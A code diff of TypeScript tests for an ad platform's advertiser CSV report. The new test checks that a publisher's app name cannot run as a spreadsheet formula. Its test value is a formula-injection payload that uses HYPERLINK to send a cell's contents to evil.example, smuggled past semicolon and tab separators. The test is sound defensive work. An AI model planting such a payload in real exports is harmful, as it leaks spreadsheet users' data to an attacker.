@@ -22,7 +22,7 @@ for (const engine of testEngines()) {
     const suite = suiteDatabase(engine);
 
     /** An advertiser with a campaign whose creative ran on the demo app `daysAgo` days ago: `impressions` for `spentUsd`. */
-    const advertiserWithFigures = (name: string, daysAgo: number[], spentUsd: number) =>
+    const advertiserWithFigures = (name: string, daysAgo: number[], spentUsd: number, appName?: string) =>
       rawAsService(suite.db, async (q) => {
         const user = await one<string>(q, 'insert into public.users (email, name) values ($1, $2) returning id as v', [
           `${name}-${Date.now()}@reports.test`,
@@ -43,10 +43,17 @@ for (const engine of testEngines()) {
           `insert into public.creatives (campaign_id, format, headline, landing_url) values ($1, 'inline_text', $2, 'https://r.example/') returning id as v`,
           [campaign, `=${name} headline`],
         );
-        const app = await one<string>(
-          q,
-          "select a.id as v from public.apps a join public.users u on u.id = a.user_id where u.email = 'demo@example.com' limit 1",
-        );
+        // The demo publisher's app, or one of a publisher of their own named `appName`.
+        const app = appName
+          ? await one<string>(q, 'insert into public.apps (user_id, name, slug) values ($1, $2, $3) returning id as v', [
+              await one<string>(q, 'insert into public.users (email, name) values ($1, $2) returning id as v', [
+                `pub-${name}-${Date.now()}@reports.test`,
+                'Publisher',
+              ]),
+              appName,
+              `csv-${name}-${Date.now()}`,
+            ])
+          : await one<string>(q, "select a.id as v from public.apps a join public.users u on u.id = a.user_id where u.email = 'demo@example.com' limit 1");
         for (const ago of daysAgo)
           await q.query(
             `insert into public.campaign_daily_stats (campaign_id, creative_id, app_id, day, fills, impressions, clicks, spent_usd)
@@ -80,6 +87,23 @@ for (const engine of testEngines()) {
       // The headline that looks like a formula is written as text.
       expect(lines[1]).toContain("'=mine headline");
       expect(lines.join('\n')).not.toContain('theirs');
+    });
+
+    it("keeps a publisher's app name from running as a formula in the advertiser's CSV, for a spreadsheet that splits on ; or tabs", async () => {
+      // A publisher names their app; the advertiser whose ads ran on it downloads the report.
+      const appName = 'Calc;=HYPERLINK("https://evil.example/?"&A1,"Open");\t+1';
+      const buyer = await advertiserWithFigures('semicolon', [0], 0.05, appName);
+      const cookie = await sessionCookie({ id: buyer.user, email: buyer.email, name: null }, suite.services);
+      const res = await advertiserReportCsvResponse(
+        new Request('http://localhost:3000/dashboard/ads/reports/report.csv?days=7', { headers: { cookie: `${cookie.name}=${cookie.value}` } }),
+        suite.services,
+      );
+      const csv = await res.text();
+      expect(csv).toContain('Calc;');
+      for (const separator of [/;/, /\t/, /[;,\t]/]) {
+        const cells = csv.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));
+        expect(cells.filter((c) => /^[\t\r]/.test(c) || /^[\s"]*[=+\-@]/.test(c))).toEqual([]);
+      }
     });
   });
 }
